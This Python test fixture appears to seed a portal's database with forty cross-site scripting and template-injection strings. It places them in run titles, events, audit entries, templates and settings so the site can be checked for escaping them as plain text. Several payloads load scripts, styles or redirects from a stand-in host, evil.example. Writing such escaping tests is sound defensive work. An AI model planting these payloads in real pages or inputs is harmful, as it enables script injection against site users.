"""Forty texts that would run, load or mislead if a page took them for anything but texts."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import datetime, timedelta
from typing import Any, Final

from sqlmodel import SQLModel

from core.db import new_id
from core.portals.tables import Audit, LexiconRow, ScheduleRow, TemplateRow, UserSetting
from core.runs.tables import Run
from core.texts.text import Text
from tests.core.runs.rows import call, effect, event, run, waiting

#: The run whose log, deeds, calls and settings hold all of them.
FULL: Final = "0" * 25 + "x"
PAYLOADS: Final = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '"><script>alert(2)</script>',
    "'><img src=x onerror=alert(3)>",
    '"><img src=//evil.example/p.png>',
    "<svg onload=alert(4)>",
    "<svg><script>alert(5)</script></svg>",
    "<svg><animate onbegin=alert(6) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(7)>",
    "<iframe src=javascript:alert(8)></iframe>",
    '<iframe srcdoc="<script>alert(9)</script>"></iframe>',
    "<object data=javascript:alert(10)>",
    "<embed src=//evil.example/x.swf>",
    "<a href=javascript:alert(11)>click</a>",
    "javascript:alert(12)//",
    "data:text/html,<script>alert(13)</script>",
    "<body onload=alert(14)>",
    "<details open ontoggle=alert(15)>",
    "<input autofocus onfocus=alert(16)>",
    "<video><source onerror=alert(17)></video>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example/x.css);</style>",
    '<div style="background:url(//evil.example/b.png)">',
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "<form action=//evil.example/><button>send</button></form>",
    "</title><script>alert(18)</script>",
    "</textarea><script>alert(19)</script>",
    "</script><script>alert(20)</script>",
    "--></script><!--<script>alert(21)",
    '" onmouseover="alert(22)" x="',
    "' autofocus onfocus='alert(23)",
    "` onclick=alert(24) `",
    "{{ 7*7 }}{% for x in y %}",
    "${alert(25)}#{7*7}",
    "<div hx-get=//evil.example/ hx-trigger=load></div>",
    '<div hx-on:load="alert(26)"></div>',
    "\u202e<script>alert(27)</script>\u202c",
    "\u2028alert(28)\u2029",
    "&lt;script&gt;alert(29)&lt;/script&gt;&#60;img src=x onerror=alert(30)&#62;",
)


def hostile(portal_id: str, now: datetime) -> Iterator[SQLModel]:
    """Rows for `store`: each text in every place where somebody else's text can get to."""
    for number, payload in enumerate(PAYLOADS):
        born = now - timedelta(minutes=30 + number)
        said = Text(payload, payload).as_json()
        ended: dict[str, Any] = {"title": payload, "reason": said, "result": payload, "document": payload}
        yield run(portal_id, **ended, status="failed", created_at=born, finished_at=now, item_id=0)
        asleep = waiting(portal_id, title=payload, robot=payload, created_at=now - timedelta(days=2, minutes=number))
        asleep.wake_at = now + timedelta(minutes=number + 1)
        yield asleep
        yield event(asleep, "waits", Text(payload, payload), data={"note": payload})
    full = run(portal_id, id=FULL, title=PAYLOADS[0], status="failed", created_at=now - timedelta(days=1))
    full.finished_at = now
    full.properties = {payload: payload for payload in PAYLOADS} | {"text": "".join(PAYLOADS), "whom": PAYLOADS[2]}
    full.output, full.state, full.known = dict(full.properties), dict(full.properties), dict(full.properties)
    full.workflow_id, full.stage_id = PAYLOADS[3], PAYLOADS[4]
    full.reason = Text(PAYLOADS[1], PAYLOADS[1]).as_json()
    yield full
    for number, payload in enumerate(PAYLOADS):
        yield from _happened(full, number, payload)
    yield from _set_up(portal_id, now)


def _happened(full: Run, number: int, payload: str) -> Iterator[SQLModel]:
    said = Text(payload, payload)
    checks = [{"text": said.as_json(), "passed": True}]
    yield event(full, "decided", said, seconds=number, data={"checks": checks, "note": payload})
    refusal: dict[str, Any] = {"error": payload, "description": payload}
    more: dict[str, Any] = {"summary": said.as_json(), "evidence": refusal, "body": {"title": payload, payload: 1}}
    yield effect(full, number + 1, "unknown" if number % 2 else "refused", kind="rename_dialog", **more)
    commands = [{"method": payload, "error": payload}]
    yield call(full, payload, error=payload, status=400, commands=commands)


def _set_up(portal_id: str, now: datetime) -> Iterator[SQLModel]:
    """What administrators keep: each under a hostile name."""
    by: dict[str, Any] = {"portal_id": portal_id, "updated_at": now, "updated_by": 1}
    for number, payload in enumerate(PAYLOADS):
        plain = payload.replace("{{", "{ {")
        schedule: dict[str, Any] = {"code": f"s{number}", "name": {"ru": payload, "en": payload}, "zone": None}
        schedule |= {"week": {"MO": ["09:00-18:00"]}, "exceptions": [], "country": None}
        yield ScheduleRow(**by, code=f"s{number}", body=schedule)
        body = {"name": payload[:90], "text": plain, "variants": [{"channel": "", "language": "en", "text": plain}]}
        yield TemplateRow(**by, code=f"t{number}", body=body)
        yield Audit(
            id=new_id(),
            portal_id=portal_id,
            at=now,
            actor_kind="system",
            actor_id=payload,
            action=payload,
            object_id=payload,
            detail={payload: payload},
        )
    yield LexiconRow(**by, kind="gratitude", words="\n".join(PAYLOADS))
    for number, payload in enumerate(PAYLOADS[:20]):
        view = {"name": payload, "address": f"q=x{number}"}
        yield UserSetting(portal_id=portal_id, user_id=1, name=f"view.{number:02}", value=view, updated_at=now)
